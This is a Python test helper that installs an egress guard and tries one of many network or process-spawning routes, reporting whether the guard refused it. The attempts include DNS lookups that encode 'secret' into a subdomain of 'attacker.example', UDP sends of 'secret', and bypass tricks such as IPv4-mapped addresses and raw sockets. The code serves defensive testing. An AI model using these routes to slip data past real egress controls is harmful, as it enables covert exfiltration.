"""A process under the egress guard that tries one thing and prints what came of it.

Arguments: name of the attempt, port that is allowed, port that is not, path of an allowed socket.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import urllib.request

from hybridmandate.evidence.record import Record
from hybridmandate.execution.egress import Dependency, EgressGuard, install_guard

attempt, allowed, forbidden, socket_path = sys.argv[1:5]
TO, NOT_TO = int(allowed), int(forbidden)
records: list[Record] = []


class Keep:
    def record(self, record: Record) -> None:
        records.append(record)


def with_requests() -> None:
    import requests

    requests.get(f"http://127.0.0.1:{NOT_TO}/", timeout=2)


def with_asyncio() -> None:
    asyncio.run(_open(NOT_TO))


async def _open(port: int) -> None:
    await asyncio.open_connection("127.0.0.1", port)


def with_aiohttp() -> None:
    import aiohttp

    async def get() -> None:
        async with aiohttp.ClientSession() as session:
            await session.get(f"http://127.0.0.1:{NOT_TO}/")

    asyncio.run(get())


def udp_sendto() -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", NOT_TO))


def udp_sendmsg() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendmsg([b"secret"], [], 0, ("127.0.0.1", NOT_TO))


def allowed_http() -> None:
    with urllib.request.urlopen(f"http://127.0.0.1:{TO}/", timeout=2) as response:
        assert response.status == 200


def allowed_by_name() -> None:
    socket.create_connection(("localhost", TO), timeout=2).close()


def allowed_socket() -> None:
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect(socket_path)


def in_asyncio_allowed() -> None:
    asyncio.run(_open(TO))


def server_on_any_port() -> None:
    async def serve() -> None:
        server = await asyncio.start_server(lambda r, w: None, "127.0.0.1", 0)
        server.close()

    asyncio.run(serve())


ATTEMPTS = {
    "requests": with_requests,
    "urllib": lambda: urllib.request.urlopen(f"http://127.0.0.1:{NOT_TO}/", timeout=2),
    "raw": lambda: socket.create_connection(("127.0.0.1", NOT_TO), timeout=2),
    "connect_ex": lambda: socket.socket().connect_ex(("127.0.0.1", NOT_TO)),
    "mapped": lambda: socket.create_connection(("::ffff:127.0.0.1", NOT_TO), timeout=2),
    "other_loopback": lambda: socket.create_connection(("127.0.0.2", TO), timeout=2),
    "asyncio": with_asyncio,
    "aiohttp": with_aiohttp,
    "udp_sendto": udp_sendto,
    "udp_sendmsg": udp_sendmsg,
    "udp_connect": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(
        ("127.0.0.1", NOT_TO)
    ),
    "dns": lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 443),
    "dns_old": lambda: socket.gethostbyname("c2VjcmV0.attacker.example"),
    "dns_old_ex": lambda: socket.gethostbyname_ex("c2VjcmV0.attacker.example"),
    "dns_reverse": lambda: socket.gethostbyaddr("192.0.2.1"),
    "dns_nameinfo": lambda: socket.getnameinfo(("192.0.2.1", 80), 0),
    "unix": lambda: socket.socket(socket.AF_UNIX).connect(socket_path + ".other"),
    "raw_ip": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    "curl": lambda: subprocess.run(["curl", f"http://127.0.0.1:{NOT_TO}/"], check=True),
    "system": lambda: os.system("true"),
    "exec": lambda: os.execv("/bin/true", ["true"]),
    "posix_spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
    "uvloop": lambda: __import__("uvloop"),
    "allowed_http": allowed_http,
    "allowed_by_name": allowed_by_name,
    "allowed_socket": allowed_socket,
    "allowed_asyncio": in_asyncio_allowed,
    "allowed_server": server_on_any_port,
}

install_guard(
    EgressGuard(
        [
            Dependency("gateway", host="127.0.0.1", port=TO),
            Dependency("named", host="localhost", port=TO),
            Dependency("sidecar", socket_path=socket_path),
        ],
        Keep(),
    )
)
refused = None
try:
    ATTEMPTS[attempt]()
except Exception as error:
    chain: list[BaseException] = [error]
    while (behind := chain[-1].__cause__ or chain[-1].__context__) not in (None, *chain):
        assert behind is not None
        chain.append(behind)
    refused = [type(each).__name__ for each in chain]
    message = " ".join(str(each) for each in chain)
else:
    message = ""
print(
    json.dumps(
        {
            "refused": refused,
            "message": message,
            "evidence": [[r.kind, r.subject, r.detail["event"]] for r in records],
        }
    )
)
